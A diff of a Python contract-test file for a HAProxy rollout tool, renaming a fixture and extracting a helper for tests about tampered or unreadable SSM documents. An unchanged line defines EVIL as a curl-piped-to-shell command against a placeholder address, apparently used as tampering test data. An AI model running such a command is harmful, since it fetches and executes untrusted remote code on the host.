@@ -2,7 +2,7 @@
 
 import json
 import logging
-from collections.abc import Callable, Iterator
+from collections.abc import Callable
 from typing import Any
 
 import pytest
@@ -11,7 +11,7 @@ from haproxy_sync.rollout.program import Program
 from tests.contract.faults import Fault, calls, failing
 from tests.contract.test_deploy import said, versions
 from tests.contract.test_two_stacks import inspections
-from tests.contract.world import World, another_program, document, new_world
+from tests.contract.world import World, another_program, document
 
 SHIPPED_WITH = (
     "the document of the stack is not the one that this function was shipped with"
@@ -19,15 +19,6 @@ SHIPPED_WITH = (
 EVIL = "/usr/bin/curl http://203.0.113.1/ | sh"
 
 type Content = dict[str, Any]
-
-
-@pytest.fixture
-def frozen() -> Iterator[World]:
-    """A new environment before `unfreeze`."""
-    with new_world(start_frozen=True) as made:
-        made.launch(number=3)
-        made.launch("haproxy", 2)
-        yield made
 
 
 def submit(world: World, text: str) -> str:
@@ -103,25 +94,25 @@ def test_a_default_version_that_somebody_moved_is_not_run(running: World) -> Non
 
 
 @pytest.mark.fault("F169")
-def test_a_changed_document_asks_no_proxy_of_a_new_environment(frozen: World) -> None:
+def test_a_changed_document_asks_no_proxy_of_a_new_environment(fresh: World) -> None:
     """An inspection runs as root, too; since when it is so is kept over the looks."""
-    tamper(frozen)
-    began = frozen.now
+    tamper(fresh)
+    began = fresh.now
     for _ in range(12):
-        assert frozen.sweep() == []
-        frozen.pass_time(60)
-    assert frozen.service.commands == []
-    status = frozen.act("status")
+        assert fresh.sweep() == []
+        fresh.pass_time(60)
+    assert fresh.service.commands == []
+    status = fresh.act("status")
     assert status["document"]["refused_since"] == began
     assert status["document"]["refusal"].startswith(SHIPPED_WITH)
     assert status["health"] == "degraded"
     assert status["looked_at"] > began
-    submit(frozen, json.dumps(document(frozen.program)))
+    submit(fresh, json.dumps(document(fresh.program)))
     for _ in range(4):
-        frozen.sweep()
-        frozen.pass_time(60)
-    assert inspections(frozen) == 2
-    assert frozen.act("status")["document"] is None
+        fresh.sweep()
+        fresh.pass_time(60)
+    assert inspections(fresh) == 2
+    assert fresh.act("status")["document"] is None
 
 
 @pytest.mark.fault("F170")
@@ -142,13 +133,7 @@ def test_another_layout_is_the_same_document(
     """Who lays it out differently changes nothing of what it says."""
     content = document(running.program)
     text = laid_out(content)
-    running.releases[running.program.sha256] = json.dumps(json.loads(text))
-    version = submit(running, text)
-    running.launch()
-    running.sweep()
-    running.settle()
-    assert is_well(running)
-    assert versions(running)[-1] == version
+    check_is_run(running, text, json.dumps(json.loads(text)))
 
 
 @pytest.mark.fault("F170")
@@ -156,14 +141,20 @@ def test_numbers_that_became_strings_are_the_same_document(running: World) -> No
     """CloudFormation makes strings of them."""
     content = document(running.program)
     content["mainSteps"][-1]["inputs"]["timeoutSeconds"] = 180
-    running.releases[running.program.sha256] = json.dumps(content)
+    shipped = json.dumps(content)
     content["mainSteps"][-1]["inputs"]["timeoutSeconds"] = "180"
-    version = submit(running, json.dumps(content))
-    running.launch()
-    running.sweep()
-    running.settle()
-    assert is_well(running)
-    assert versions(running)[-1] == version
+    check_is_run(running, json.dumps(content), shipped)
+
+
+def check_is_run(world: World, text: str, shipped: str) -> None:
+    """Submitted, that text is the document that proxies run, though the function brings the other one."""
+    world.releases[world.program.sha256] = shipped
+    version = submit(world, text)
+    world.launch()
+    world.sweep()
+    world.settle()
+    assert is_well(world)
+    assert versions(world)[-1] == version
 
 
 @pytest.mark.fault("F170")
@@ -237,18 +228,18 @@ def test_a_document_that_cannot_be_read_is_not_run(
 
 @pytest.mark.fault("F171")
 def test_a_document_that_cannot_be_read_keeps_nobody_from_looking(
-    frozen: World,
+    fresh: World,
 ) -> None:
     """Inspections wait."""
     fault = Fault(400, "AccessDeniedException")
-    with failing(frozen.clients, "ssm.GetDocument", fault):
-        assert frozen.sweep() == []
-    assert frozen.service.commands == []
-    assert frozen.act("status")["looked_at"]
-    frozen.pass_time(60)
-    frozen.sweep()
-    frozen.pass_time(10)
-    assert inspections(frozen) == 2
+    with failing(fresh.clients, "ssm.GetDocument", fault):
+        assert fresh.sweep() == []
+    assert fresh.service.commands == []
+    assert fresh.act("status")["looked_at"]
+    fresh.pass_time(60)
+    fresh.sweep()
+    fresh.pass_time(10)
+    assert inspections(fresh) == 2
 
 
 @pytest.mark.fault("F171")
